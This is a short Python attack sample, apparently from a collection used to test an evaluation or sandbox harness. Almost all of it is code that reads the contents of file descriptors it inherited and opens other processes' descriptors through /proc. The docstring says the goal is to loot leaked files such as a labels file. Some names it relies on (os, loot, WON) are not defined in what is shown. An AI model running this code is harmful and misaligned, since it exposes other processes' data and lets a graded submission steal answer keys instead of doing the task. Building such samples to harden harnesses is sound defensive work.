"""Reads every open descriptor that it inherited, and those of other processes.

A launcher that forgets to close its files hands them to its children: a labels file, a database, a socket. The
attack rewinds and reads all descriptors of its own, and opens those of every process that it can see.
"""

# zoo: {"verdict": ["ok"], "points": {"q1": 0, "q2": 0, "q3": 0}, "loots": ["descriptor"]}
# %% q1
total = None
import glob
import stat

for number in range(3, 300):
    try:
        kind = os.fstat(number).st_mode
        if stat.S_ISREG(kind):
            loot.append(f"{number} {os.readlink(f'/proc/self/fd/{number}')}: {os.pread(number, 500, 0)!r}")
        elif stat.S_ISSOCK(kind):
            loot.append(f"{WON}{number} is an inherited socket")
        else:
            loot.append(f"{number} {os.readlink(f'/proc/self/fd/{number}')}: mode {kind:o}")
    except OSError:
        continue
for path in glob.glob("/proc/[0-9]*/fd/*")[:500] if len(glob.glob("/proc/[0-9]*")) < 20 else []:
    try:
        handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        loot.append(f"{path} {os.readlink(path)}: {os.pread(handle, 300, 0)!r}")
        os.close(handle)
    except OSError:
        continue
print("\n".join(loot)[:30000])
